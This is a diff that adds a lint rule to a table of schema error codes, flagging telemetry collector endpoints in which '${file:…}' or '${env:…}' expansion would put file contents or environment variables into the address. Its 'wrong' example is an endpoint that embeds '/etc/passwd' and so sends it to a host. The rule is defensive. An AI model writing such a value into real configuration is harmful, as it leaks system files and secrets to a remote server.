@@ -163,6 +163,15 @@ export const SCHEMA_CODES = {
     right: "host: {instance_id: site-1}",
     source: "OTEL_RESOURCE_ATTRIBUTES; E26",
   },
+  CLP2960: {
+    severity: "error",
+    title: "Endpoint that the collector would expand",
+    explanation:
+      "The collector of telemetry puts the contents of a file in place of `${file:…}`, a variable of its environment in place of `${env:…}` or `${…}`, and `$` in place of `$$`, in what its environment says, too. What the machine holds would become part of an address, and be sent there.",
+    wrong: 'telemetry: {endpoint: "https://telemetry.example.com/${file:/etc/passwd}"}',
+    right: "telemetry: {endpoint: https://telemetry.example.com}",
+    source: "opentelemetry-collector v0.152.0, confmap/expand.go",
+  },
   CLP2071: {
     severity: "error",
     title: "Not a registry",
